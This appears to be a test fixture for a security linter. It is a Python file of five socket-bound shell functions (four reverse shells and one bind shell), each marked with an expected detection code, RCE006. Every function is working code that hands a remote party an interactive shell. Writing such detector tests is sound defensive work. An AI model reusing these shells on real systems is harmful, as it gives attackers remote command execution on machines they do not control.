"""Shells whose stdin/stdout is a socket: whatever the other end sends is run as commands."""
import os
import pty
import socket
import subprocess


def reverse_pty(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/sh")  # expect: RCE006


def reverse_subprocess(host, port):
    s = socket.create_connection((host, port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])  # expect: RCE006


def child_on_socket(host, port):
    s = socket.socket()
    s.connect((host, port))
    fd = s.fileno()
    subprocess.call(["/bin/bash", "-i"], stdin=fd, stdout=fd, stderr=fd)  # expect: RCE006


def child_on_socket_object(host, port):
    sock = socket.create_connection((host, port))
    subprocess.Popen(["python3"], stdin=sock, stdout=sock)  # expect: RCE006


def bind_shell(port):
    srv = socket.socket()
    srv.bind(("0.0.0.0", port))
    srv.listen(1)
    conn, _ = srv.accept()
    os.dup2(conn.fileno(), 0)
    os.dup2(conn.fileno(), 1)
    os.system("/bin/sh -i")  # expect: RCE006
